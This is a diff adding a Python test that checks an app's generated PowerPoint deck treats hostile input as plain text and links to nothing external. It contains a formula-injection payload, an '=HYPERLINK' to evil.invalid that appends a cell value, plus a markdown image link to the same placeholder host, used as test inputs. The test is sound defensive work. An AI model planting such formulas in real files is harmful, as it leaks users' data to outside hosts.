@@ -128,3 +128,16 @@ def test_a_summary_with_an_image_is_shown_as_text_on_the_page(tmp_path: Path, mo
     shown = [e.value for kind in ("markdown", "caption", "info", "warning", "error") for e in at.get(kind)]
     assert any("evil.invalid/x.png" in s for s in shown)
     assert not any("![b](" in s or "[klik](" in s for s in shown)  # every bracket escaped: text, not an image
+
+
+def test_the_deck_carries_hostile_names_as_text_and_links_to_nothing(tmp_path: Path) -> None:
+    import zipfile
+
+    folder = minimal_copy(tmp_path / "data")
+    name, note = HOSTILE[0], HOSTILE[5]
+    plan = plan_with(folder, name, note)
+    deck = zipfile.ZipFile(io.BytesIO(report.build(plan, "pptx", "da")))
+    parts = {n: deck.read(n).decode("utf-8", "replace") for n in deck.namelist() if n.endswith((".xml", ".rels"))}
+    assert not [n for n, text in parts.items() if 'TargetMode="External"' in text]  # nothing fetched or opened
+    slides = "".join(text for n, text in parts.items() if n.startswith("ppt/slides/slide"))
+    assert '=HYPERLINK("http://evil.invalid/?"&amp;A1,"klik")' in slides  # the name, as text (XML-escaped)
